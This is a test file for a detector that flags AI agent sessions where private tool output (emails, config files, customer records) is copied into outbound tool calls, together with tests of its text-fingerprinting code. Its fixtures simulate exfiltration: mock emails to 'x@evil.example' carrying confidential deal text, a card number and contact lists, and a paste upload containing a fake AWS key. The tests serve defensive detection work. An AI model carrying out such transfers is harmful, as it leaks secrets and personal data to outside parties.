import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import {
  FingerprintIndex,
  fingerprintText,
  LEGACY_FINGERPRINT_WIDTH,
  matchWindows,
  normalizeCodes,
  normalizeCodesScratch,
  normalizeForMatch,
} from '../../../../functions/engine/text/content-fingerprint.js';
import type { MemoryStateStore } from '../../../../functions/engine/state/memory-store.js';
import { findingsOf, mcpEvent, runEvents, type EventInput } from '../../../helpers/engine-harness.js';

const ID = 'AGT-TOXIC-FLOW';
const FAKE_AWS_KEY = 'AKIA' + 'Q3EGRTWZ7NXJPLM4';

const EMAIL_TEXT = [
  'From: dana.whitfield@partner.example',
  'Subject: Q3 acquisition shortlist (confidential)',
  '',
  'Hi team, the board approved moving ahead with the Northwind Traders deal at a valuation of 41.5M.',
  'Please keep the names Contoso Robotics and Fabrikam Analytics out of every external channel until',
  'the announcement on the 14th. Legal will circulate the revised term sheet tomorrow morning.',
].join('\n');

const COPIED = 'the board approved moving ahead with the Northwind Traders deal at a valuation of 41.5M.';

function read(time: number, text: string, overrides: Partial<EventInput> = {}) {
  return mcpEvent({
    event: 'mcp.call',
    time,
    server: { name: 'mail-mcp' },
    session: 'sess-1',
    principal: { sub: 'user-42' },
    rpc: { id: time, method: 'tools/call' },
    tool: 'read_email',
    arguments: { id: 'msg-1' },
    result: { isError: false, text, bytes: text.length },
    ...overrides,
  });
}

function send(time: number, args: Record<string, unknown>, overrides: Partial<EventInput> = {}) {
  return mcpEvent({
    event: 'mcp.call',
    time,
    server: { name: 'mail-mcp' },
    session: 'sess-1',
    principal: { sub: 'user-42' },
    rpc: { id: time, method: 'tools/call' },
    tool: 'send_email',
    arguments: args,
    result: { isError: false, text: 'sent' },
    ...overrides,
  });
}

async function run(events: ReturnType<typeof read>[], batchSize?: number) {
  return findingsOf(await runEvents(events, { only: [ID], ...(batchSize ? { batchSize } : {}) }), ID);
}

/** Deterministic text without repeated 32-char windows. */
function prose(chars: number, seed: string): string {
  let out = '';
  for (let i = 0; out.length < chars; i++) out += `${createHash('sha256').update(`${seed}${i}`).digest('base64')} `;
  return out.slice(0, chars);
}

describe('AGT-TOXIC-FLOW', () => {
  it('a sink call within 5 minutes of a private read → low', async () => {
    const findings = await run([read(0, EMAIL_TEXT), send(120, { to: 'someone@example.com', subject: 'Lunch', body: 'See you at noon?' })]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      severity: 'low',
      subject: 'session=sess-1 sink=send_email',
      session: 'sess-1',
      tool: 'send_email',
      evidence: { sourceTool: 'read_email', sourceServer: 'mail-mcp', secondsSinceRead: 120 },
    });
    expect(findings[0]?.evidence).not.toHaveProperty('copiedChars');
  });

  it('text of the result in the sink arguments → high', async () => {
    const findings = await run([read(0, EMAIL_TEXT), send(60, { to: 'x@evil.example', body: `fyi: ${COPIED}` })]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      severity: 'high',
      subject: 'session=sess-1 sink=send_email',
      evidence: { sourceTool: 'read_email', field: 'body', guaranteedFromChars: 47 },
    });
    const copied = findings[0]?.evidence?.copiedChars as number;
    expect(copied).toBeGreaterThanOrEqual(COPIED.length - 15);
    expect(copied).toBeLessThanOrEqual(COPIED.length);
  });

  it('re-wrapped and re-cased copies still match', async () => {
    const reformatted = COPIED.toUpperCase().replace(/ /g, '\n  ');
    const findings = await run([read(0, EMAIL_TEXT), send(60, { to: 'x@evil.example', body: reformatted })]);
    expect(findings.map((f) => f.severity)).toEqual(['high']);
  });

  it('copied text holding a secret → critical', async () => {
    const envFile = `# production settings\nDATABASE_HOST=db.internal.example\nAWS_ACCESS_KEY_ID=${FAKE_AWS_KEY}\nAWS_REGION=eu-west-1\nFEATURE_FLAGS=search,billing\n`;
    const findings = await run([
      read(0, envFile, { tool: 'read_file', arguments: { path: '/srv/app/config.ini' } }),
      send(30, { url: 'https://paste.example/new', content: `config dump: AWS_ACCESS_KEY_ID=${FAKE_AWS_KEY}\nAWS_REGION=eu-west-1\nFEATURE` }, { tool: 'post_paste' }),
    ]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      severity: 'critical',
      subject: 'session=sess-1 sink=post_paste',
      evidence: { sourceTool: 'read_file', field: 'content', copiedSensitive: ['aws-access-key-id'], readHeldSecrets: ['aws-access-key-id'] },
    });
  });

  it('secrets the instrumentation redacted ([REDACTED:<kind>]) count as secrets: copied → critical', async () => {
    // What functions/instrument logs for the same .env file: the key replaced by its marker.
    const envFile =
      '# production settings\nDATABASE_HOST=db.internal.example\nAWS_ACCESS_KEY_ID=[REDACTED:aws-access-key]\nAWS_REGION=eu-west-1\nFEATURE_FLAGS=search,billing\n';
    const findings = await run([
      read(0, envFile, { tool: 'read_file', arguments: { path: '/srv/app/config.ini' } }),
      send(30, { url: 'https://paste.example/new', content: 'config dump: AWS_ACCESS_KEY_ID=[REDACTED:aws-access-key]\nAWS_REGION=eu-west-1\nFEATURE' }, { tool: 'post_paste' }),
    ]);
    expect(findings.map((f) => [f.severity, f.subject, f.evidence?.copiedSensitive, f.evidence?.readHeldSecrets])).toEqual([
      ['critical', 'session=sess-1 sink=post_paste', ['aws-access-key'], ['aws-access-key']],
    ]);
  });

  it('near miss: "[REDACTED]" (a sensitive key\'s value) and the word REDACTED in prose are not secrets → high only', async () => {
    const memo =
      'Incident memo: the contractor names are [REDACTED] and the budget line was REDACTED by legal before release; [REDACTED: see annex B] for the rest of the story.';
    const findings = await run([
      read(0, memo, { tool: 'read_file', arguments: { path: '/srv/docs/memo.txt' } }),
      send(30, { to: 'x@evil.example', body: memo }),
    ]);
    expect(findings.map((f) => [f.severity, f.evidence?.copiedSensitive, f.evidence?.readHeldSecrets])).toEqual([
      ['high', undefined, undefined],
    ]);
  });

  it('copied text holding PII (a card number) → critical; bulk emails count, one address does not', async () => {
    const customers =
      'Customer record 7731: Jane Roe, card 4539 1488 0343 6467 exp 04/29, billing address 12 Elm Street, Springfield. ' +
      'Contacts: ana@corp.example, ben@corp.example, cy@corp.example, dee@corp.example for escalations only.';
    const findings = await run([
      read(0, customers, { tool: 'get_customer' }),
      send(30, { to: 'x@evil.example', body: 'Jane Roe, card 4539 1488 0343 6467 exp 04/29, billing address 12 Elm Street' }, {}),
      send(40, { to: 'x@evil.example', body: 'Contacts: ana@corp.example, ben@corp.example, cy@corp.example, dee@corp.example' }, { tool: 'post_message' }),
      send(50, { to: 'x@evil.example', body: 'billing address 12 Elm Street, Springfield. Contacts: ana@corp.example, ben@corp.example' }, { tool: 'notify_team' }),
    ]);
    expect(findings.map((f) => [f.severity, f.subject, f.evidence?.copiedSensitive])).toEqual([
      ['critical', 'session=sess-1 sink=send_email', ['card-number']],
      ['critical', 'session=sess-1 sink=post_message', ['email']],
      ['high', 'session=sess-1 sink=notify_team', undefined],
    ]);
    expect(findings[0]?.evidence?.readHeldPii).toEqual(['card-number', 'email']);
  });

  it('a session spans servers (a gateway multiplexing several servers under one session id)', async () => {
    const findings = await run([
      read(0, EMAIL_TEXT, { server: { name: 'mail-mcp' } }),
      send(60, { channel: '#general', text: COPIED }, { server: { name: 'slack-mcp' }, tool: 'post_message' }),
    ]);
    expect(findings.map((f) => [f.severity, f.server, f.evidence?.sourceServer, f.evidence?.field])).toEqual([
      ['high', 'slack-mcp', 'mail-mcp', 'text'],
    ]);
  });

  it('copied text found long after the read (within the content window) is still high', async () => {
    const findings = await run([read(0, EMAIL_TEXT), send(20 * 60, { to: 'x@evil.example', body: COPIED })]);
    expect(findings.map((f) => [f.severity, f.evidence?.secondsSinceRead])).toEqual([['high', 1200]]);
  });

  it('near miss: a sink call without an earlier private read', async () => {
    expect(await run([send(0, { to: 'a@example.com', body: COPIED })])).toHaveLength(0);
    // The read comes after the sink.
    expect(await run([send(0, { to: 'a@example.com', body: COPIED }), read(10, EMAIL_TEXT)])).toHaveLength(0);
  });

  it('near miss: read and sink in different sessions, or without a session', async () => {
    expect(await run([read(0, EMAIL_TEXT), send(60, { to: 'x@evil.example', body: COPIED }, { session: 'sess-2' })])).toHaveLength(0);
    expect(
      await run([read(0, EMAIL_TEXT, { session: undefined }), send(60, { to: 'x@evil.example', body: COPIED }, { session: undefined })]),
    ).toHaveLength(0);
  });

  it('near miss: a sink more than 5 minutes later without copied text; copied text after the content window', async () => {
    expect(await run([read(0, EMAIL_TEXT), send(301, { to: 'a@example.com', body: 'Thanks, noted.' })])).toHaveLength(0);
    expect(await run([read(0, EMAIL_TEXT), send(3601, { to: 'x@evil.example', body: COPIED })])).toHaveLength(0);
  });

  it('near miss: only short common words or the recipient address are shared → low only', async () => {
    const findings = await run([
      read(0, EMAIL_TEXT),
      send(60, {
        to: 'dana.whitfield@partner.example',
        cc: ['dana.whitfield@partner.example'],
        subject: 'Re: Q3',
        body: 'Hi team, the board approved it. Please keep this out of every external channel. Legal will circulate tomorrow.',
      }),
    ]);
    expect(findings.map((f) => f.severity)).toEqual(['low']);
  });

  it('near miss: a failed read is not remembered; non-private reads and non-sinks are ignored', async () => {
    const findings = await run([
      read(0, EMAIL_TEXT, { result: { isError: true, text: EMAIL_TEXT } }),
      read(1, EMAIL_TEXT, { tool: 'get_weather' }),
      send(60, { to: 'x@evil.example', body: COPIED }),
      send(61, { path: '/tmp/x', content: COPIED }, { tool: 'save_draft' }),
    ]);
    expect(findings).toHaveLength(0);
  });

  it('state carries across batches; config labels decide private and sink tools', async () => {
    const events = [
      read(0, EMAIL_TEXT, { tool: 'fetch_thread' }),
      send(5, { body: 'unrelated' }, { tool: 'archive' }),
      send(60, { payload: COPIED }, { tool: 'archive' }),
    ];
    const config = { toolLabels: { privateData: ['fetch_thread'], publicSink: ['mail-mcp/archive'] } };
    const result = await runEvents(events, { only: [ID], config, batchSize: 1 });
    expect(findingsOf(result, ID).map((f) => [f.severity, f.subject])).toEqual([
      ['low', 'session=sess-1 sink=archive'],
      ['high', 'session=sess-1 sink=archive'],
    ]);
    expect(result.alerts.map((a) => a.severity)).toEqual(['low', 'high']);
  });

  it('session state stays bounded: at most maxReadsPerSession reads and maxFingerprintsPerSession fingerprints', async () => {
    const reads = Array.from({ length: 20 }, (_, i) => read(i, prose(4096, `doc-${i}`)));
    const result = await runEvents(reads, { only: [ID] });
    const store = result.store as MemoryStateStore;
    const key = [...store.keys()].find((k) => k.startsWith(`${ID}|*|session|`));
    const item = key !== undefined ? store.peek(key) : undefined;
    expect(item?.k).toBe('r');
    // One field holds the session's reads, oldest first.
    expect(Object.keys(item?.k === 'r' ? item.v : {})).toEqual(['[]reads']);
    const values = (item?.k === 'r' ? item.v['[]reads'] : []) as Array<{ t: number; h: string }>;
    expect(values.map((v) => (v.t - Date.parse('2026-11-24T10:00:00.000Z')) / 1000)).toEqual([12, 13, 14, 15, 16, 17, 18, 19]);
    expect(values.length).toBe(8);
    expect(values.map((v) => v.h.length / 8)).toEqual([0, 0, 0, 0, 0, 0, 0, 255]);
    expect(JSON.stringify(item).length).toBeLessThan(10_000);
    // The newest read is kept in full: text from it is found.
    const last = prose(4096, 'doc-19');
    const copy = await runEvents([...reads, send(30, { body: last.slice(1000, 1047) })], { only: [ID] });
    expect(findingsOf(copy, ID).map((f) => [f.severity, f.evidence?.sourceTool])).toEqual([['high', 'read_email']]);
    // An older read lost its fingerprints but still makes a plain flow.
    const older = prose(4096, 'doc-15');
    const plain = await runEvents([...reads, send(30, { body: older.slice(1000, 1100) })], { only: [ID] });
    expect(findingsOf(plain, ID).map((f) => f.severity)).toEqual(['low']);
  });

  it('a session record written with one field per read is still read, and folded into one field by the next read', async () => {
    const first = await runEvents([read(0, EMAIL_TEXT)], { only: [ID] });
    const store = first.store as MemoryStateStore;
    const key = [...store.keys()].find((k) => k.startsWith(`${ID}|*|session|`)) as string;
    const item = store.peek(key);
    if (item?.k !== 'r') throw new Error('no session record');
    const [stored] = item.v['[]reads'] as Array<{ t: number }>;
    if (stored === undefined) throw new Error('no read stored');
    // The per-read-field layout written before: `r<time in base 36>` → read.
    store.put(key, { k: 'r', x: item.x, v: { [`r${stored.t.toString(36)}`]: stored, stray: 5 } });
    const sent = await runEvents([send(60, { payload: COPIED })], { only: [ID], store });
    expect(findingsOf(sent, ID).map((f) => [f.severity, f.evidence?.sourceTool, f.evidence?.secondsSinceRead])).toEqual([['high', 'read_email', 60]]);
    await runEvents([read(120, prose(600, 'later'))], { only: [ID], store });
    const after = store.peek(key);
    expect(after?.k === 'r' ? Object.keys(after.v) : []).toEqual(['[]reads']);
    const reads = (after?.k === 'r' ? after.v['[]reads'] : []) as Array<{ t: number }>;
    expect(reads.map((r) => (r.t - stored.t) / 1000)).toEqual([0, 120]);
  });

  it('a read stored before with 64-bit fingerprints (fp, 12 digits each) is still matched, and kept beside new reads', async () => {
    const first = await runEvents([read(0, EMAIL_TEXT)], { only: [ID] });
    const store = first.store as MemoryStateStore;
    const key = [...store.keys()].find((k) => k.startsWith(`${ID}|*|session|`)) as string;
    const item = store.peek(key);
    if (item?.k !== 'r') throw new Error('no session record');
    const [stored] = item.v['[]reads'] as Array<{ t: number; h: string; st: number }>;
    if (stored === undefined) throw new Error('no read stored');
    // The read as the previous version stored it: `fp`, both 32-bit hashes whole.
    const { h, ...facts } = stored;
    expect(h.length % 8).toBe(0);
    const legacyRead = { ...facts, fp: referenceFingerprints(EMAIL_TEXT, stored.st, 256, true) };
    store.put(key, { k: 'r', x: item.x, v: { '[]reads': [legacyRead] } });
    const sent = await runEvents([send(60, { payload: COPIED })], { only: [ID], store });
    expect(findingsOf(sent, ID).map((f) => [f.severity, f.evidence?.sourceTool, f.evidence?.secondsSinceRead])).toEqual([['high', 'read_email', 60]]);
    // A new read is stored compactly beside it; the old one keeps its fingerprints and is still found.
    await runEvents([read(120, prose(600, 'later'))], { only: [ID], store });
    const after = store.peek(key);
    const reads = (after?.k === 'r' ? after.v['[]reads'] : []) as Array<{ fp?: string; h?: string }>;
    expect(reads.map((r) => [r.fp?.length ?? 0, (r.h?.length ?? 0) % 8 === 0 && (r.h?.length ?? 0) > 0])).toEqual([
      [legacyRead.fp.length, false],
      [0, true],
    ]);
    const again = await runEvents([send(180, { payload: COPIED })], { only: [ID], store });
    expect(findingsOf(again, ID).map((f) => [f.severity, f.evidence?.sourceTool])).toEqual([['high', 'read_email']]);
  });

  it('pathological 100 KB result and arguments finish', async () => {
    const big = 'a'.repeat(50_000) + prose(50_000, 'big');
    const findings = await run([read(0, big), send(10, { body: 'b'.repeat(100_000), more: Array.from({ length: 100 }, () => 'ab'.repeat(1000)) })]);
    expect(findings.map((f) => f.severity)).toEqual(['low']);
  });
});

describe('content fingerprints', () => {
  const source = prose(4096, 'source');
  const fp = fingerprintText(source, 16, 256);
  const index = new FingerprintIndex([{ hashes: fp.hashes, owner: 0 }]);

  it('samples a 4 KiB result at stride 16 within the 256 budget', () => {
    expect(fp.stride).toBe(16);
    expect(fp.count).toBe(255);
  });

  it('finds every copied run of 47 characters, at every offset', () => {
    for (let offset = 0; offset < 4096 - 47; offset += 7) {
      const copy = `prefix ${source.slice(offset, offset + 47)} suffix`;
      expect(matchWindows(normalizeCodes(copy, 1000).codes, index).length, `offset ${offset}`).toBeGreaterThan(0);
    }
  });

  it('a match means at least 32 shared characters: 31 never match', () => {
    for (let offset = 0; offset < 4096 - 31; offset += 5) {
      expect(matchWindows(normalizeCodes(source.slice(offset, offset + 31), 1000).codes, index)).toEqual([]);
    }
  });

  it('an aligned 32-character copy matches exactly once', () => {
    expect(matchWindows(normalizeCodes(source.slice(160, 192), 100).codes, index)).toEqual([{ at: 0, owner: 0 }]);
  });

  it('low-information windows are not stored', () => {
    expect(fingerprintText('-'.repeat(500) + ' '.repeat(10) + '0'.repeat(500), 16, 256).count).toBe(0);
  });

  it('stored fingerprints are exactly the hashes of the sampled windows', () => {
    const texts = [
      EMAIL_TEXT,
      `  Mixed\tCASE\r\n\n  text\u00a0with\u2028odd\ufeffspaces, caf\u00e9 \u{1F600} ${prose(300, 'mix')}  `,
      prose(4096, 'ref'),
      '-'.repeat(40) + prose(200, 'after-rule'),
    ];
    for (const text of texts) {
      for (const [stride, budget] of [[16, 256], [4, 20], [33, 512]] as const) {
        const fp = fingerprintText(text, stride, budget);
        const windows = normalizeForMatch(text, 16_384).length - 31;
        expect(fp.stride).toBe(Math.max(stride, Math.ceil(windows / budget)));
        expect(fp.hashes).toBe(referenceFingerprints(text, fp.stride, budget));
        expect(fp.count).toBe(fp.hashes.length / 8);
      }
    }
  });

  it('fingerprints stored before (12 digits, both hashes whole) are still found, compared on the same 48 bits', () => {
    const legacy = referenceFingerprints(source, 16, 256, true);
    expect(legacy.length).toBe(255 * LEGACY_FINGERPRINT_WIDTH);
    const old = new FingerprintIndex([{ hashes: legacy, owner: 3, width: LEGACY_FINGERPRINT_WIDTH }]);
    expect(old.size).toBe(255);
    for (let offset = 0; offset < 4096 - 47; offset += 61) {
      const copy = `prefix ${source.slice(offset, offset + 47)} suffix`;
      expect(matchWindows(normalizeCodes(copy, 1000).codes, old).map((m) => m.owner)[0], `offset ${offset}`).toBe(3);
    }
    expect(matchWindows(normalizeCodes(source.slice(100, 131), 1000).codes, old)).toEqual([]);
    // Both encodings of one text hold the same 48-bit values: a mixed index keeps one entry each.
    const mixed = new FingerprintIndex([
      { hashes: fp.hashes, owner: 0 },
      { hashes: legacy, owner: 1, width: LEGACY_FINGERPRINT_WIDTH },
    ]);
    expect(mixed.size).toBe(255);
  });

  it('a fingerprint is 48 bits: a window whose second hash differs only in its low 16 bits matches, one differing above does not', () => {
    const one = new FingerprintIndex([{ hashes: fingerprintText(source.slice(0, 32), 16, 1).hashes, owner: 0 }]);
    const [h1, h2] = windowHashesOf(source.slice(0, 32));
    expect(one.lookup(h1, h2)).toBe(0);
    expect(one.lookup(h1, h2 ^ 0xffff)).toBe(0);
    expect(one.lookup(h1, h2 ^ 0x10000)).toBeUndefined();
    expect(one.lookup(h1 ^ 1, h2)).toBeUndefined();
  });

  /** (h1, h2) of one 32-character window, as matchWindows computes them. */
  function windowHashesOf(window: string): [number, number] {
    let h1 = 0;
    let h2 = 0;
    for (const u of Array.from(normalizeForMatch(window, 32), (c) => c.charCodeAt(0))) {
      h1 = (Math.imul(h1, 0x01000193) + u + 1) | 0;
      h2 = (Math.imul(h2, 0x5bd1e995) + u + 1) | 0;
    }
    return [h1, h2];
  }

  it('the scratch normalization matches the allocating one', () => {
    const text = `  A\tB  c\u00a0\u00a0D\u2029e ${prose(500, 'scratch')}`;
    for (const max of [0, 7, 100, 10_000]) {
      const fresh = normalizeCodes(text, max, true);
      const scratch = normalizeCodesScratch(text, max, true);
      expect(Array.from(scratch.codes)).toEqual(Array.from(fresh.codes));
      expect(Array.from(scratch.map ?? [])).toEqual(Array.from(fresh.map ?? []));
    }
  });

  it('longer results widen the stride to stay within the budget', () => {
    const long = fingerprintText(prose(16_384, 'long'), 16, 256);
    expect(long.stride).toBe(64);
    expect(long.count).toBeLessThanOrEqual(256);
  });
});

/**
 * The fingerprints spelled out: each sampled window hashed on its own (no prefix sums), encoded as
 * stored — 48 bits (h1, then h2's high 16) as 8 digits, or (`legacy`) both hashes whole as 6 digits each.
 */
function referenceFingerprints(text: string, stride: number, budget: number, legacy = false): string {
  const norm = normalizeForMatch(text, 16_384);
  const digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const spell = (value: number, width: number): string => {
    let u = value;
    let out = '';
    for (let k = 0; k < width; k++) {
      out = digits[u % 64] + out;
      u = Math.floor(u / 64);
    }
    return out;
  };
  const encode = (h1: number, h2: number): string =>
    legacy ? spell(h1 >>> 0, 6) + spell(h2 >>> 0, 6) : spell((h1 >>> 0) * 65_536 + (h2 >>> 16), 8);
  let out = '';
  let count = 0;
  for (let p = 0; p + 32 <= norm.length && count < budget; p += stride) {
    // UTF-16 code units, as stored.
    const units = Array.from({ length: 32 }, (_, k) => norm.charCodeAt(p + k));
    if (new Set(units.map((u) => u & 63)).size < 8) continue;
    let h1 = 0;
    let h2 = 0;
    for (const u of units) {
      h1 = (Math.imul(h1, 0x01000193) + u + 1) | 0;
      h2 = (Math.imul(h2, 0x5bd1e995) + u + 1) | 0;
    }
    out += encode(h1, h2);
    count++;
  }
  return out;
}
